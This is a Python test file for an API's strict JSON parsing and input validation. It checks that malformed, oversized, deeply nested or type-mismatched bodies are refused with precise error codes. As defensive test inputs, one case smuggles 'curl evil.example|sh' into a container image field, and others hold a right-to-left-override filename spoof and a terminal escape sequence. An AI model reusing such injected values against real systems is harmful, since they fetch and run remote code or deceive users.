"""What is refused before and while a body is read: API.md, "Strict input"."""

import json
import time
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apikit import strict_json
from apikit.errors import DomainError, InvalidInput
from apikit.instants import instant
from tests.apikit.conftest import Caller
from tests.apikit.example_door import NoteBody

NOTES = "/api/v1/notes"
AMOUNT = "/max_price/amount"


def refusal(raw: bytes) -> DomainError:
    with pytest.raises(DomainError) as caught:
        strict_json.loads(raw)
    return caught.value


@pytest.mark.parametrize(
    ("raw", "key"),
    [
        (b'{"a": 1, "a": 1}', "a"),
        (b'{"a": 1, "\\u0061": 2}', "a"),
        (b'{"x": {"b": 1, "c": 2, "b": 3}}', "b"),
        (b'[{"": 1, "": 2}]', ""),
    ],
)
def test_a_name_that_stands_twice_is_named(raw: bytes, key: str) -> None:
    found = refusal(raw)

    assert (found.status, found.slug, found.facts["key"]) == (400, "duplicate-key", key)


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b'{"n": NaN}', "non_finite_number"),
        (b'{"n": -Infinity}', "non_finite_number"),
        (b'{"n": 1e400}', "non_finite_number"),
        (b'{"n": ' + b"9" * 5000 + b"}", "number_too_long"),
        (b'{"n": 0.' + b"1" * 21 + b"}", "number_too_long"),
        (b'{"request":"\xff\xfe"}', "not_utf8"),
        (b'{"a":"\xed\xa0\x80"}', "not_utf8"),
        (b"\xef\xbb\xbf{}", "bom"),
        (b"\xff\xfe{\x00}\x00", "bom"),
        (b"{}{}", "syntax"),
        (b"", "syntax"),
        (b"{'a': 1}", "syntax"),
        (b'{"a": "\x01"}', "syntax"),
        (b'{"a": 01}', "syntax"),
        (b'{"a": 1,}', "syntax"),
    ],
)
def test_what_is_no_json_is_400(raw: bytes, code: str) -> None:
    found = refusal(raw)

    assert (found.status, found.slug, found.facts["errors"][0]["code"]) == (400, "malformed-json", code)


def test_what_a_double_is_written_as_is_read_also_with_zeros_before_its_digits() -> None:
    number = 0.00012345678901234567

    assert len(repr(number)) == 22
    assert strict_json.loads(b'{"n": ' + repr(number).encode() + b"}") == {"n": number}
    assert refusal(b'{"n": 0.' + b"0" * 5000 + b"1}").slug == "malformed-json"


def test_twenty_digits_are_read_and_one_more_is_not() -> None:
    assert strict_json.loads(b"9" * 20) == 99_999_999_999_999_999_999
    assert refusal(b"9" * 21).slug == "malformed-json"


def test_thirty_two_levels_are_read_and_one_more_is_not() -> None:
    assert strict_json.loads(b"[" * 32 + b"]" * 32)
    assert refusal(b"[" * 33 + b"]" * 33).slug == "json-too-deep"
    assert strict_json.loads(b'["' + b"[" * 100 + b'\\"[{"]')


def test_a_body_over_the_limit_is_413() -> None:
    found = refusal(b'"' + b"x" * strict_json.BODY_LIMIT + b'"')

    assert (found.status, found.slug) == (413, "payload-too-large")


@pytest.mark.parametrize(
    "raw",
    [b"[" * 200_000, b'\\"' * 120_000, b'"' + b"\\" * 250_000, b'{"a":' * 40_000, b"9" * 250_000, b'"' * 250_000],
    ids=["brackets", "escaped quotes", "backslashes", "objects", "digits", "quotes"],
)
def test_a_hostile_body_costs_less_than_50_ms(raw: bytes) -> None:
    before = time.process_time()
    refusal(raw)

    assert time.process_time() - before < 0.05


@pytest.mark.parametrize(
    ("raw", "pointer", "code"),
    [
        (b'{"env": {"A": "x\\u0000y"}}', "/env/A", "null_character"),
        (b'{"env": {"A": "\\ud800"}}', "/env/A", "lone_surrogate"),
        (b'["a", "\\uDFFF"]', "/1", "lone_surrogate"),
        (b'{"a/b~c": "\\u0000"}', "/a~1b~0c", "null_character"),
        (b'{"\\u0000": 1}', "/<U+0000>", "null_character"),
    ],
)
def test_nul_and_half_surrogates_are_422_with_their_place(raw: bytes, pointer: str, code: str) -> None:
    found = refusal(raw)

    assert (found.status, found.slug) == (422, "validation-error")
    assert (found.facts["errors"][0]["pointer"], found.facts["errors"][0]["code"]) == (pointer, code)


def test_a_whole_surrogate_pair_is_a_character() -> None:
    assert strict_json.loads(b'"\\ud83d\\ude80"') == "🚀"


DECENT = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]))
JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**18), 10**18) | DECENT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(DECENT, inner),
    max_leaves=20,
)


@given(JSON, st.booleans())
def test_any_decent_document_is_read_as_the_standard_library_reads_it(value: Any, ascii_only: bool) -> None:
    assert strict_json.loads(json.dumps(value, ensure_ascii=ascii_only).encode()) == value


@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused_by_name(raw: bytes) -> None:
    refused: DomainError | None = None
    try:
        strict_json.loads(raw)
    except DomainError as exc:
        refused = exc

    assert refused is None or refused.status in {400, 413, 422}


BASE = {"request": "A100_80G x1", "image": "ghcr.io/acme/train:1.4", "term": {"kind": "on_demand", "duration_s": 3600}}


@pytest.mark.parametrize(
    ("change", "pointer", "code"),
    [
        ({"request": {"$gt": ""}}, "/request/$gt", "unknown_field"),
        ({"request": 1}, "/request", "wrong_type"),
        ({"request": None}, "/request", "wrong_type"),
        ({"request": "A" * 257}, "/request", "too_long"),
        ({"term": {"kind": "on_demand", "duration_s": -1}}, "/term/duration_s", "out_of_range"),
        ({"term": {"kind": "on_demand", "duration_s": 2147483648}}, "/term/duration_s", "out_of_range"),
        ({"term": {"kind": "on_demand", "duration_s": True}}, "/term/duration_s", "wrong_type"),
        ({"term": {"kind": "on_demand", "duration_s": "3600"}}, "/term/duration_s", "wrong_type"),
        ({"term": {"kind": "on_demand", "duration_s": 3600.0}}, "/term/duration_s", "wrong_type"),
        ({"term": {"kind": "on_demand", "duration_s": "٣٦٠٠"}}, "/term/duration_s", "wrong_type"),
        ({"term": {"kind": "on_demand", "free": True}}, "/term/free", "unknown_field"),
        ({"term": {"kind": "ondemand"}}, "/term/kind", "bad_value"),
        ({"term": {"kind": 1}}, "/term/kind", "wrong_type"),
        ({"term": {}}, "/term/kind", "required"),
        ({"term": "2h"}, "/term", "wrong_type"),
        ({"term": {"kind": "spot", "start_at": "2026-12-01T00:00:00"}}, "/term/start_at", "bad_timestamp"),
        ({"term": {"kind": "spot", "start_at": "9999-12-31T23:59:59-14:00"}}, "/term/start_at", "bad_timestamp"),
        ({"term": {"kind": "spot", "start_at": "2026-02-29T00:00:00Z"}}, "/term/start_at", "bad_timestamp"),
        ({"term": {"kind": "spot", "start_at": 1764547200}}, "/term/start_at", "wrong_type"),
        ({"max_price": {"amount": "NaN", "currency": "CNY"}}, AMOUNT, "bad_decimal"),
        ({"max_price": {"amount": "-0.01", "currency": "CNY"}}, AMOUNT, "bad_decimal"),
        ({"max_price": {"amount": 1.1, "currency": "CNY"}}, AMOUNT, "wrong_type"),
        ({"max_price": {"amount": "0.0000001", "currency": "CNY"}}, AMOUNT, "bad_decimal"),
        ({"max_price": {"amount": "1e3", "currency": "CNY"}}, AMOUNT, "bad_decimal"),
        ({"max_price": {"amount": "١", "currency": "CNY"}}, AMOUNT, "bad_decimal"),
        ({"max_price": {"amount": "1", "currency": "cny"}}, "/max_price/currency", "bad_value"),
        ({"env": "A=1"}, "/env", "wrong_type"),
        ({"env": {"A=B": "1"}}, "/env/A=B", "bad_name"),
        ({"env": {"A\n": "1"}}, "/env/A<U+000A>", "bad_name"),
        ({"env": {"A": 1}}, "/env/A", "wrong_type"),
        ({"env": {f"K{n}": "v" for n in range(65)}}, "/env", "too_many"),
        ({"state": "active"}, "/state", "unknown_field"),
        ({"name": "invoice\u202egnp.exe"}, "/name", "format_character"),
        ({"name": "x\u001b[2J"}, "/name", "control_character"),
        ({"name": "a\u2028b"}, "/name", "control_character"),
        ({"name": ""}, "/name", "bad_value"),
        ({"name": "   "}, "/name", "bad_value"),
        ({"name": "x" * 65}, "/name", "too_long"),
        ({"image": "alpine; curl evil.example|sh #"}, "/image", "bad_value"),
        ({"image": "alpine:1\n"}, "/image", "bad_value"),
        ({"bare": 1}, "/bare", "wrong_type"),
        ({"bare": "true"}, "/bare", "wrong_type"),
    ],
)
def test_a_value_is_never_coerced(change: dict[str, Any], pointer: str, code: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        NoteBody.read({**BASE, **change})

    assert (pointer, code) in [(found["pointer"], found["code"]) for found in caught.value.facts["errors"]]


def test_a_missing_field_and_an_array_at_the_top_are_told_apart() -> None:
    for sent, pointer, code in (({}, "/request", "required"), ([], "", "not_an_object"), (None, "", "not_an_object")):
        with pytest.raises(InvalidInput) as caught:
            NoteBody.read(sent)
        found = caught.value.facts["errors"][0]
        assert (found["pointer"], found["code"]) == (pointer, code)


def test_an_unknown_field_is_answered_with_the_nearest_known_one() -> None:
    with pytest.raises(InvalidInput) as caught:
        NoteBody.read({**BASE, "imgae": "x"})

    assert caught.value.facts["errors"][0]["nearest"] == ["image"]


def test_every_fault_is_told_at_once() -> None:
    with pytest.raises(InvalidInput) as caught:
        NoteBody.read({"request": 1, "bare": 0, "imgae": 1, "term": {"kind": "spot", "duration_s": 1}})

    assert [found["pointer"] for found in caught.value.facts["errors"]] == [
        "/imgae",
        "/request",
        "/term/duration_s",
        "/bare",
    ]


def test_what_is_legitimate_is_read() -> None:
    values = NoteBody.read(
        {
            **BASE,
            "name": "Zoe\u0308's run 🚀 👩\u200d💻",
            "max_price": {"amount": "1.999999", "currency": "CNY"},
            "term": {"kind": "spot", "start_at": "2026-12-01T05:30:00.250+05:30"},
        }
    )

    assert values["name"] == "Zoë's run 🚀 👩\u200d💻"
    assert values["max_price"].amount_micros == 1_999_999
    assert values["max_price"].to_json() == {"amount": "1.999999", "currency": "CNY"}
    assert values["term"]["start_at"].isoformat() == "2026-12-01T00:00:00+00:00"


@pytest.mark.urls("tests.apikit.example_door")
@pytest.mark.parametrize(
    ("body", "content_type", "status", "slug"),
    [
        (b"", "application/json", 400, "malformed-json"),
        (b"[]", "application/json", 422, "validation-error"),
        (b'{"a":"' + b"x" * 3_000_000 + b'"}', "application/json", 413, "payload-too-large"),
        (b"request=A100", "application/x-www-form-urlencoded", 415, "unsupported-media-type"),
        (b"{}", "application/json; charset=utf-16", 415, "unsupported-media-type"),
        (b"{}", "text/plain", 415, "unsupported-media-type"),
        (b'{"request": "x"}', "application/json; charset=UTF-8", 201, None),
        (b"[" * 100_000 + b"]" * 100_000, "application/json", 400, "json-too-deep"),
        (b'{"request": "\\ud800"}', "application/json", 422, "validation-error"),
        (b'{"\\ud800": 1, "\\u202e": 2}', "application/json", 422, "validation-error"),
    ],
)
def test_the_door_answers_each_with_a_problem(
    caller: Caller, body: bytes, content_type: str, status: int, slug: str | None
) -> None:
    answer = caller.send("POST", NOTES, body, **{"Content-Type": content_type})

    assert answer.status_code == status
    if slug is not None:
        assert answer.json()["type"].endswith(f"/{slug}")
        assert len(answer.content) <= 4096


@pytest.mark.urls("tests.apikit.example_door")
def test_an_error_body_stays_small_and_echoes_little(caller: Caller) -> None:
    body = {"request": "x", **{f"{'z' * 500}{n}\u202e": 1 for n in range(400)}}

    answer = caller.post(NOTES, body)

    assert answer.status_code == 422
    assert len(answer.content) <= 4096
    assert "z" * 65 not in answer.content.decode()


def test_an_instant_of_the_first_centuries_is_written_with_four_digits_too() -> None:
    assert instant(datetime(97, 6, 23, 3, 20, 49, 5, tzinfo=UTC)) == "0097-06-23T03:20:49Z"
